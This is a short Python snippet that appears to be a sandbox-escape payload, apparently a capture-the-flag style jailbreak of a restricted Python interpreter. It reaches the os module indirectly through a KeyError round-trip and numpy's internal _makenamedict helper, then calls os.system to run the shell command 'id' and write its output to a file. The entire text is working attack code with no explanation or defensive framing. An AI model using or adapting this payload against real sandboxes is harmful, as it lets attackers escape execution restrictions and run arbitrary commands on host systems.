def my_exc(x):
    try:
        raise KeyError(x)
    except KeyError as e:
        return e.args[0]
import numpy.lib.utils as u
d, names = my_exc(u)._makenamedict('os')
[x for x in [d, *names] if 'os' in x][0]['os']['system']('id>pf')
